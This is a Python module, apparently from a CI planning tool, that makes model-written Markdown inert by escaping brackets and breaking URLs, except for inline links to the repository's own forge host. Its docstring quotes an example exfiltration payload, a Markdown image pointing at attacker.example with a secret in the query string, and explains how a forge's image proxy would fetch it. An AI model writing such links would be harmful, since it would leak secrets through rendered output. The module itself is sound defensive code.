"""Model-written text made inert before a forge renders it: no link to follow, no image to load.

A forge renders Markdown in comments, the tracking comment and pull request bodies, and its
image proxy fetches every image it shows: `![x](https://attacker.example/?q=<secret>)` in text
the model wrote would send the secret out with no network tool at all. So brackets are escaped
(no Markdown link, image or reference definition forms) and URLs are broken for the autolinker
(`https:\u200b//…`, `www\u200b.…`): they stay readable as text and lead nowhere. The one exception
is an inline link (never an image) to the repository's own forge host, when the caller names it:
planner's notes link to its own comments that way. HTML is escaped by the callers
(planner.ci.tracking.neutralize, planner.approval.render), so `<img>` is text too.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

ZERO_WIDTH_SPACE = "\u200b"
SCHEME = re.compile(r"(?i)\b([a-z][a-z0-9+.\-]*):(?=//)")
WWW = re.compile(r"(?i)\bwww\.")
BRACKET = re.compile(r"(?<!\\)([\[\]])")
INLINE_LINK = re.compile(r"(?<![\\!])\[([^\[\]\n]*)\]\((https?://[^\s()]+)\)")


def inert_links(text: str, own_host: str = "") -> str:
    """`text` with no Markdown link, image or autolink left in it, except inline links to
    `own_host` (a host name, compared case-insensitively; "" keeps none)."""
    if not own_host:
        return _inert(text)
    pieces, position = [], 0
    for match in INLINE_LINK.finditer(text):
        if _host(match.group(2)) == own_host.casefold():
            pieces += [_inert(text[position : match.start()]), match.group(0)]
            position = match.end()
    return "".join([*pieces, _inert(text[position:])])


def _inert(text: str) -> str:
    text = BRACKET.sub(r"\\\1", text)
    text = SCHEME.sub(lambda m: f"{m.group(1)}:{ZERO_WIDTH_SPACE}", text)
    return WWW.sub(f"www{ZERO_WIDTH_SPACE}.", text)


def _host(url: str) -> str:
    try:
        return (urlsplit(url).hostname or "").casefold()
    except ValueError:
        return ""
